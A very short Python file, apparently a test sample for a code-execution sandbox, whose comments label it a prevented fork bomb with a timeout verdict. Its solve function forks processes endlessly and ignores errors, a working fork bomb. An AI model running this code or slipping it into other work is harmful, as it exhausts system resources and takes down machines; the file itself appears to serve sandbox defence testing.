# prevented: a fork bomb
# verdict: timeout error
import os


def solve(n):
    while True:
        try:
            os.fork()
        except OSError:
            pass
